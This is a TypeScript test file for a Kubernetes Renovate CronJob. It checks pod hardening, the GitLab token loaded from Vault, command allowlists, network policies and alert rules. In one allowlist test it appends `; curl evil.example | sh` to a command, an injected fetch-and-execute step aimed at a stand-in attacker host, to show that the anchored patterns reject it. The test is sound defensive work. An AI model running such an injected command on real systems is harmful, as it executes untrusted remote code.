/**
 * Renovate in the cluster: the CronJob runs the pinned image restricted and once at a time, its
 * global configuration names this GitLab, this platform's and the apps' repositories and exactly
 * the commands renovate.json's postUpgradeTasks run; its token comes from Vault (the start script
 * is run for real), its network reaches GitLab, Vault, DNS and the internet on 443 only, and its
 * alerts fire under promtool.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Testing } from 'cdk8s';
import { Cron } from 'croner';
import { describe, expect, it } from 'vitest';
import { defaultPlatform, loadDefaultPlatform, validatePlatform, type Platform } from '../../../config';
import { IMAGES } from '../../../config/versions';
import {
  ALLOWED_COMMANDS,
  GITLAB_TOKEN_SECRET,
  RENOVATE_CONSUMER,
  Renovate,
  renovateCommand,
  renovateGitlabHost,
  renovateGlobalConfig,
  renovateRepositories,
  type RenovateProps,
} from '../../../charts/day-two/renovate';
import { RENOVATE, RENOVATE_DEADLINE_SECONDS, RENOVATE_NAMESPACE, longestGapSeconds, missedRunSeconds } from '../../../charts/lib/renovate-job';
import { renovateRules } from '../../../charts/observability/rules/renovate';
import { PLATFORM_SERVICES } from '../../../charts/catalogue';
import { ruleFiles } from '../../../charts/observability/prometheus';
import { secretFile } from '../../../charts/lib/vault';
import { declaredVaultPaths } from '../../../cli/doctor';
import { entriesLoadedByScript } from '../../support/bringup';
import { hasPromtool, promtoolTestRules } from '../../support/promtool';
import { NetworkPolicyEvaluator, type Endpoint, type Pod } from '../../support/network-evaluator';
import { ROOT, defaultRender, kubeObjects } from '../../support/render';
import { hasCommand, requireValidator } from '../../support/validators';

const platform = loadDefaultPlatform();
const withModel = (patch: (model: any) => void): Platform => {
  const model = structuredClone(defaultPlatform) as any;
  patch(model);
  return validatePlatform(model, 'fixture');
};
/** Small props: one repository, documentation addresses. */
const SMALL: RenovateProps = {
  gitlabHost: 'git.example.com',
  repositories: ['platform/platform'],
  schedule: '15 */2 * * *',
  ingressAddress: '192.0.2.10',
  vaultTlsServerName: 'vault.example.com',
  plan: { connections: Renovate.registration.connections!(platform) },
};
/** The construct alone from its props. */
function synth(props: RenovateProps = SMALL): any[] {
  const chart = Testing.chart();
  new Renovate(chart, 'renovate', props);
  return Testing.synth(chart);
}
/** The construct alone, its props mapped from a model by its catalogue line (charts/catalogue.ts). */
function build(model: Platform): any[] {
  const chart = Testing.chart();
  PLATFORM_SERVICES.find((s) => s.name === RENOVATE)!.build(chart, model, { connections: Renovate.registration.connections!(model) });
  return Testing.synth(chart);
}
const cronJobOf = (objects: any[]) => objects.find((o) => o.kind === 'CronJob' && o.metadata.name === RENOVATE);
const configOf = (objects: any[]) => JSON.parse(objects.find((o) => o.kind === 'ConfigMap' && o.metadata.name === `${RENOVATE}-config`).data['config.json']);

/** Every command the project's renovate.json runs as a postUpgradeTask, top level and in package rules. */
function postUpgradeCommands(): string[] {
  const config = JSON.parse(readFileSync(join(ROOT, 'renovate.json'), 'utf8'));
  const tasks = [config.postUpgradeTasks, ...(config.packageRules ?? []).map((rule: any) => rule.postUpgradeTasks)].filter(Boolean);
  return tasks.flatMap((task: any) => task.commands as string[]);
}

describe('the Renovate CronJob', () => {
  const objects = synth();
  const job = cronJobOf(objects);
  const pod = job.spec.jobTemplate.spec.template;
  const container = pod.spec.containers[0];

  it('GIVEN a schedule WHEN it renders THEN the pinned full image runs on it, once at a time, with deadlines and short history', () => {
    expect(job.metadata.namespace).toBe(RENOVATE_NAMESPACE);
    expect(job.spec.schedule).toBe(SMALL.schedule);
    expect(job.spec.timeZone).toBe('Etc/UTC');
    expect(job.spec.suspend).toBe(false);
    expect(job.spec.concurrencyPolicy).toBe('Forbid');
    expect(job.spec.startingDeadlineSeconds).toBeGreaterThan(0);
    expect(job.spec.successfulJobsHistoryLimit).toBe(1);
    expect(job.spec.failedJobsHistoryLimit).toBe(1);
    expect(job.spec.jobTemplate.spec.activeDeadlineSeconds).toBe(RENOVATE_DEADLINE_SECONDS);
    expect(job.spec.jobTemplate.spec.backoffLimit).toBe(0);
    expect(pod.spec.containers).toHaveLength(1);
    expect(container.image).toBe(IMAGES.renovate);
    // The full image: Node and npm for the postUpgradeTasks, nothing downloaded at run time.
    expect(container.image).toMatch(/^renovate\/renovate:\d+\.\d+\.\d+-full$/);
  });

  it('GIVEN its props WHEN it renders THEN the pod runs restricted as the image user and group, without an API token, with writable scratch and bounded resources', () => {
    // No runAsGroup: the image's primary group owns HOME and the full image's tools.
    expect(pod.spec.securityContext).toEqual({ runAsNonRoot: true, runAsUser: 12021, seccompProfile: { type: 'RuntimeDefault' } });
    expect(container.securityContext).toEqual({ allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } });
    expect(pod.spec.automountServiceAccountToken).toBe(false);
    expect(pod.spec.restartPolicy).toBe('Never');
    expect(container.resources.requests.cpu).toBeDefined();
    expect(container.resources.limits.memory).toBeDefined();
    const env = Object.fromEntries(container.env.map((e: any) => [e.name, e.value]));
    const mounts = Object.fromEntries(container.volumeMounts.map((m: any) => [m.mountPath, m.name]));
    const volumes = Object.fromEntries(pod.spec.volumes.map((v: any) => [v.name, v]));
    // HOME, the base and cache directories and the npm cache are emptyDirs (the root filesystem is read-only).
    for (const path of [env.HOME, '/tmp']) expect(volumes[mounts[path]].emptyDir, path).toBeDefined();
    expect(env.RENOVATE_CONFIG_FILE.startsWith(Object.keys(mounts).find((p) => volumes[mounts[p]].configMap)!)).toBe(true);
    // Renovate's base and cache directories lie in that /tmp emptyDir.
    expect(renovateGlobalConfig(SMALL).baseDir.startsWith('/tmp/')).toBe(true);
    expect(renovateGlobalConfig(SMALL).cacheDir.startsWith('/tmp/')).toBe(true);
    // GitLab at its public name through the ingress controller inside the cluster.
    expect(pod.spec.hostAliases).toEqual([{ ip: SMALL.ingressAddress, hostnames: [SMALL.gitlabHost] }]);
    expect(objects.filter((o) => o.kind === 'Service')).toEqual([]);
  });

  it('GIVEN its props WHEN it renders THEN the token comes from Vault, read once at start, and the service account has no API token', () => {
    expect(pod.metadata.annotations['vault.hashicorp.com/role']).toBe(RENOVATE_CONSUMER.name);
    expect(pod.metadata.annotations['vault.hashicorp.com/agent-pre-populate-only']).toBe('true');
    expect(pod.metadata.annotations[`vault.hashicorp.com/agent-inject-secret-${GITLAB_TOKEN_SECRET.name}`]).toBe('secret/data/renovate/gitlab-token');
    expect(pod.spec.serviceAccountName).toBe(RENOVATE_CONSUMER.serviceAccount);
    const account = objects.find((object) => object.kind === 'ServiceAccount' && object.metadata.namespace === RENOVATE_NAMESPACE);
    expect(account.automountServiceAccountToken).toBe(false);
    // GitLab issues the token: the Vault step's script (whole render) loads it only once GitLab runs.
    expect(entriesLoadedByScript(defaultRender()).get('secret/renovate/gitlab-token')).toEqual({ issuedBy: 'gitlab' });
    // No secret in the rendered files: only the path.
    expect(JSON.stringify(job)).not.toMatch(/glpat-/);
  });

  it('GIVEN the token entry WHEN npm run doctor and the README read it THEN the doctor checks it and the README section Dependency updates writes it', () => {
    expect(declaredVaultPaths(platform)).toContain('secret/renovate/gitlab-token');
    const readme = readFileSync(join(ROOT, 'README.md'), 'utf8');
    const section = readme.slice(readme.indexOf('\n## Dependency updates\n'), readme.indexOf('\n## ', readme.indexOf('\n## Dependency updates\n') + 1));
    expect(section).toMatch(/^vault kv put secret\/renovate\/gitlab-token value=/m);
    // The scopes the runbook asks for: Renovate's own (api) and Git over HTTPS (write_repository).
    expect(section).toMatch(/`api` and `write_repository`/);
  });

  it('GIVEN the registry WHEN the platform syncs THEN Renovate comes after GitLab, which issues its token, and after Vault', () => {
    const wave = (name: string) => PLATFORM_SERVICES.find((s) => s.name === name)!.syncWave;
    expect(wave(RENOVATE)).toBeGreaterThan(wave('gitlab'));
    expect(wave(RENOVATE)).toBeGreaterThan(wave('vault'));
  });

  it('GIVEN a model with another schedule and renovate.suspend WHEN it renders THEN the CronJob follows it', () => {
    const model = withModel((m) => (m.renovate = { schedule: '0 2 * * MON', suspend: true }));
    const paused = cronJobOf(build(model));
    expect(paused.spec.schedule).toBe('0 2 * * MON');
    expect(paused.spec.suspend).toBe(true);
  });

  it('GIVEN a model without a renovate section WHEN it is validated THEN Renovate runs hourly, not suspended', () => {
    const model = withModel((m) => delete m.renovate);
    expect(model.renovate).toEqual({ schedule: '30 * * * *', suspend: false });
  });

  it('fails when renovate.schedule is not a cron schedule', () => {
    expect(() => withModel((m) => (m.renovate = { schedule: '0 2 * * 7', suspend: false }))).toThrow(/renovate\.schedule.*Sunday is 0/);
    expect(() => withModel((m) => (m.renovate = { schedule: '*/5 * * * * *', suspend: false }))).toThrow(/renovate\.schedule.*has 6 fields/);
  });
});

describe('the global configuration', () => {
  const config = renovateGlobalConfig({ gitlabHost: renovateGitlabHost(platform), repositories: renovateRepositories(platform) });

  it('GIVEN the seed WHEN it renders THEN Renovate works on GitLab API at its public host, on the platform repository and each app repository', () => {
    expect(config.platform).toBe('gitlab');
    expect(config.endpoint).toBe(`https://${platform.services.gitlab.host}/api/v4/`);
    expect(config.autodiscover).toBe(false);
    const own = new URL(platform.git.repoURL).pathname.slice(1).replace(/\.git$/, '');
    expect(config.repositories).toEqual([...new Set([own, ...Object.values(platform.apps).map((a) => a.repository)])].sort());
    // Each repository's renovate.json is what Renovate uses: required, never replaced.
    expect(config.requireConfig).toBe('required');
  });

  it('GIVEN the project renovate.json WHEN the global configuration renders THEN it sets nothing renovate.json sets (the repository config decides)', () => {
    const repository = JSON.parse(readFileSync(join(ROOT, 'renovate.json'), 'utf8'));
    expect(Object.keys(config).filter((key) => key in repository)).toEqual([]);
    // The rendered ConfigMap holds the same object.
    const rendered = configOf(build(platform));
    expect(rendered).toEqual(config);
  });

  it('GIVEN renovate.json postUpgradeTasks WHEN Renovate checks them THEN every command is allowed by an anchored pattern and every pattern allows a command', () => {
    const commands = postUpgradeCommands();
    expect(commands.length).toBeGreaterThan(0);
    const patterns = config.allowedCommands.map((pattern) => new RegExp(pattern));
    for (const command of commands) expect(patterns.some((p) => p.test(command)), command).toBe(true);
    for (const pattern of ALLOWED_COMMANDS) {
      expect(pattern, 'anchored at both ends').toMatch(/^\^.*\$$/);
      expect(commands.some((command) => new RegExp(pattern).test(command)), pattern).toBe(true);
    }
    // Anchored: a command with something appended or prepended is refused.
    for (const command of commands) {
      expect(patterns.some((p) => p.test(`${command}; curl evil.example | sh`)), command).toBe(false);
      expect(patterns.some((p) => p.test(`sh -c ${command}`)), command).toBe(false);
    }
  });

  it('GIVEN a platform repository outside this GitLab WHEN it renders THEN Renovate works on the apps only', () => {
    const model = withModel((m) => (m.git.repoURL = 'https://git.example.org/example/platform.git'));
    expect(renovateRepositories(model)).toEqual(Object.values(model.apps).map((a) => a.repository).sort());
  });

  it('GIVEN the platform repository outside this GitLab and no apps WHEN it renders THEN the CronJob is suspended (nothing to work on yet)', () => {
    const model = withModel((m) => {
      m.git.repoURL = 'https://git.example.org/example/platform.git';
      m.apps = {};
    });
    expect(renovateRepositories(model)).toEqual([]);
    expect(cronJobOf(build(model)).spec.suspend).toBe(true);
    // With the platform repository on GitLab it runs again.
    expect(cronJobOf(build(withModel((m) => (m.apps = {})))).spec.suspend).toBe(false);
  });
});

describe('the start script', () => {
  const script = renovateCommand()[2];

  it('passes shellcheck', (ctx) => {
    if (!requireValidator('shellcheck', hasCommand('shellcheck'), 'apt-get install shellcheck')) ctx.skip();
    const result = spawnSync('shellcheck', ['--shell=bash', '-'], { input: script, encoding: 'utf8' });
    expect(result.stdout + result.stderr).toBe('');
    expect(result.status).toBe(0);
  });

  /** The script with the agent's file and the image's entrypoint moved into a temporary folder. */
  function runScript(token: string | undefined) {
    const dir = mkdtempSync(join(tmpdir(), 'renovate-start-'));
    const file = join(dir, 'gitlab-token');
    if (token !== undefined) writeFileSync(file, token);
    const entrypoint = join(dir, 'entrypoint.sh');
    writeFileSync(entrypoint, '#!/bin/bash\necho "args=$* token=$RENOVATE_TOKEN"\n');
    chmodSync(entrypoint, 0o755);
    const moved = script.replaceAll(secretFile(GITLAB_TOKEN_SECRET), file).replaceAll('/usr/local/sbin/renovate-entrypoint.sh', entrypoint);
    expect(moved).not.toBe(script);
    // HOME in the folder: bash must not read the caller's rc files.
    return spawnSync('/bin/bash', ['-c', moved], { encoding: 'utf8', env: { PATH: process.env.PATH, HOME: dir } });
  }

  it('GIVEN the agent wrote the token WHEN the container starts THEN renovate runs through the image entrypoint with RENOVATE_TOKEN set', () => {
    const result = runScript('glpat-test-token');
    expect(result.stderr).toBe('');
    expect(result.stdout.trim()).toBe('args=renovate token=glpat-test-token');
    expect(result.status).toBe(0);
  });

  it('fails when the token file is missing or empty, naming the Vault entry', () => {
    for (const token of [undefined, '']) {
      const result = runScript(token);
      expect(result.status).toBe(1);
      expect(result.stderr).toContain('load secret/renovate/gitlab-token');
      expect(result.stdout).toBe('');
    }
  });
});

describe('network isolation of Renovate', () => {
  const evaluator = new NetworkPolicyEvaluator(kubeObjects(defaultRender()).map(({ object }) => object));
  let ip = 0;
  const pod = (namespace: string, labels: Record<string, string>): Endpoint => ({ pod: { namespace, labels, ip: `10.42.9.${++ip}` } as Pod });
  const renovatePod = pod(RENOVATE_NAMESPACE, { 'app.kubernetes.io/name': RENOVATE });
  const ingress = pod('nginx-ingress', { 'app.kubernetes.io/name': 'nginx-ingress' });
  const vault = pod('vault', { 'app.kubernetes.io/name': 'vault' });
  const dns = pod('kube-system', { 'k8s-app': 'kube-dns' });
  const webservice = pod('gitlab', { app: 'webservice', release: 'gitlab' });
  const postgresql = pod('databases', { 'app.kubernetes.io/name': 'postgresql' });
  const prometheus = pod('monitoring', { 'app.kubernetes.io/name': 'prometheus' });
  const intruder = pod(RENOVATE_NAMESPACE, { 'app.kubernetes.io/name': 'intruder' });

  it('lets Renovate reach GitLab, Vault, DNS and the internet on 443, and nothing else', () => {
    const allowed: [string, Endpoint, Endpoint, number, ('TCP' | 'UDP')?][] = [
      ['GitLab API and Git through the ingress controller', renovatePod, ingress, 443],
      ['its token from Vault', renovatePod, vault, 8200],
      ['cluster DNS', renovatePod, dns, 53, 'UDP'],
      ['registries, datasources, npm and chart downloads', renovatePod, { ip: '140.82.112.3' }, 443],
    ];
    for (const [why, from, to, port, protocol] of allowed) expect(evaluator.allows({ from, to, port, protocol }), why).toBe(true);
    const denied: [string, Endpoint, Endpoint, number][] = [
      ['no plain HTTP to the internet', renovatePod, { ip: '140.82.112.3' }, 80],
      ['not the LAN (Ceph)', renovatePod, { ip: '192.168.10.21' }, 6789],
      ['not the nodes', renovatePod, { ip: '192.168.10.10' }, 443],
      ['not GitLab around the ingress controller', renovatePod, webservice, 8181],
      ['not the databases', renovatePod, postgresql, 5432],
      ['nothing reaches a Renovate pod', prometheus, renovatePod, 8080],
      ['an unknown pod in the namespace reaches nothing', intruder, { ip: '140.82.112.3' }, 443],
    ];
    for (const [why, from, to, port] of denied) expect(evaluator.allows({ from, to, port }), why).toBe(false);
  });
});

describe('the Renovate alerts', () => {
  const ksm = { job: 'kube-state-metrics', namespace: RENOVATE_NAMESPACE };
  const sel = (name: string, labels: Record<string, string>) => `${name}{${Object.entries(labels).map(([k, v]) => `${k}="${v}"`).join(',')}}`;
  const rulesFor = (model: Platform) => ruleFiles([renovateRules({ platform: model })]);
  const expand = (text: string, labels: Record<string, string>) => text.replace(/\{\{ \$labels\.([a-z_]+) \}\}/g, (_, l: string) => labels[l]);
  const group = renovateRules({ platform });
  const annotations = (alert: string, labels: Record<string, string>) => {
    const rule = group.rules.find((r) => 'alert' in r && r.alert === alert) as any;
    return { summary: expand(rule.annotations.summary, labels), description: expand(rule.annotations.description, labels) };
  };
  const failed = (cronjob: string, namespace = RENOVATE_NAMESPACE) => ({
    [sel('kube_job_failed', { ...ksm, namespace, job_name: `${cronjob}-29100000`, condition: 'true' })]: '1x20',
    [sel('kube_job_owner', { ...ksm, namespace, job_name: `${cronjob}-29100000`, owner_kind: 'CronJob', owner_name: cronjob, owner_is_controller: 'true' })]: '1x20',
  });
  const series = (values: Record<string, string>) => Object.entries(values).map(([s, v]) => ({ series: s, values: v }));

  it('GIVEN a schedule WHEN the missed-run threshold is derived THEN it is two of its longest gaps plus the run deadline', () => {
    expect(missedRunSeconds('30 * * * *')).toBe(2 * 3600 + RENOVATE_DEADLINE_SECONDS);
    expect(missedRunSeconds('0 2 * * MON')).toBe(2 * 7 * 86400 + RENOVATE_DEADLINE_SECONDS);
    // Hours 0-5 only: the longest gap is 05:00 -> 00:00 the next day.
    expect(missedRunSeconds('0 0-5 * * *')).toBe(2 * 19 * 3600 + RENOVATE_DEADLINE_SECONDS);
  });

  it('GIVEN weekly-periodic schedules WHEN their longest gap is derived from two weeks THEN it equals a scan of a whole year', () => {
    // Independent of the shortcut: every start over a year, the largest difference between two.
    // Start by start up to the year's end: nextRuns(20000) computed decades of starts for the
    // sparse schedules only to drop them, about ten seconds of CPU (decision 0096).
    const yearScan = (schedule: string) => {
      const cron = new Cron(schedule, { timezone: 'Etc/UTC', paused: true });
      const end = Date.parse('2027-01-02T00:00:00Z');
      const times: number[] = [];
      for (let next = cron.nextRun(new Date('2026-01-01T00:00:00Z')); next && next.getTime() < end; next = cron.nextRun(next)) times.push(next.getTime());
      return Math.max(...times.slice(1).map((t, i) => (t - times[i]) / 1000));
    };
    for (const schedule of ['30 * * * *', '0 2 * * MON', '0 0-5 * * *', '15 3 * * 1,4', '*/20 9-17 * * 1-5', '0 12 * * 0']) {
      expect(longestGapSeconds(schedule), schedule).toBe(yearScan(schedule));
    }
    // Not weekly: the first of each month at 03:00 has its longest gap (31 days) only over a year.
    expect(longestGapSeconds('0 3 1 * *')).toBe(31 * 86400);
  });

  it('GIVEN failed and missed runs WHEN promtool evaluates the rules THEN each alert fires for Renovate and only for it', (ctx) => {
    if (!hasPromtool()) ctx.skip();
    const failedLabels = { namespace: RENOVATE_NAMESPACE, cronjob: RENOVATE, severity: 'warning' };
    const missedLabels = { ...ksm, cronjob: RENOVATE, severity: 'warning' };
    const threshold = missedRunSeconds(platform.renovate.schedule) / 60;
    const minutes = threshold + 120;
    const tests = [
      {
        interval: '1m',
        input_series: series(failed(RENOVATE)),
        alert_rule_test: [
          { eval_time: '3m', alertname: 'RenovateRunFailed', exp_alerts: [] },
          { eval_time: '10m', alertname: 'RenovateRunFailed', exp_alerts: [{ exp_labels: failedLabels, exp_annotations: annotations('RenovateRunFailed', failedLabels) }] },
        ],
      },
      {
        // Another CronJob's failed Job, in Renovate's namespace and in another: not Renovate's.
        interval: '1m',
        input_series: series({ ...failed('other'), ...failed(RENOVATE, 'backups') }),
        alert_rule_test: [{ eval_time: '10m', alertname: 'RenovateRunFailed', exp_alerts: [] }],
      },
      {
        // The last success at minute 0, none since: quiet until the threshold, then (after 30 min) firing.
        interval: '1m',
        input_series: series({
          [sel('kube_cronjob_created', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
          [sel('kube_cronjob_status_last_successful_time', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
        }),
        alert_rule_test: [
          { eval_time: `${threshold - 5}m`, alertname: 'RenovateNotSucceeding', exp_alerts: [] },
          { eval_time: `${threshold + 40}m`, alertname: 'RenovateNotSucceeding', exp_alerts: [{ exp_labels: missedLabels, exp_annotations: annotations('RenovateNotSucceeding', missedLabels) }] },
        ],
      },
      {
        // Suspended on purpose (renovate.suspend): no missed-run alert however old the last success.
        interval: '1m',
        input_series: series({
          [sel('kube_cronjob_created', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
          [sel('kube_cronjob_status_last_successful_time', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
          [sel('kube_cronjob_spec_suspend', { ...ksm, cronjob: RENOVATE })]: `1x${minutes}`,
        }),
        alert_rule_test: [{ eval_time: `${threshold + 40}m`, alertname: 'RenovateNotSucceeding', exp_alerts: [] }],
      },
      {
        // Never succeeded since it was created, not suspended: firing too.
        interval: '1m',
        input_series: series({
          [sel('kube_cronjob_created', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
          [sel('kube_cronjob_spec_suspend', { ...ksm, cronjob: RENOVATE })]: `0x${minutes}`,
        }),
        alert_rule_test: [{ eval_time: `${threshold + 40}m`, alertname: 'RenovateNotSucceeding', exp_alerts: [{ exp_labels: missedLabels, exp_annotations: annotations('RenovateNotSucceeding', missedLabels) }] }],
      },
    ];
    const result = promtoolTestRules(rulesFor(platform), { evaluation_interval: '1m', tests });
    expect(result.output).toContain('SUCCESS');
    expect(result.status, result.output).toBe(0);
  });
});
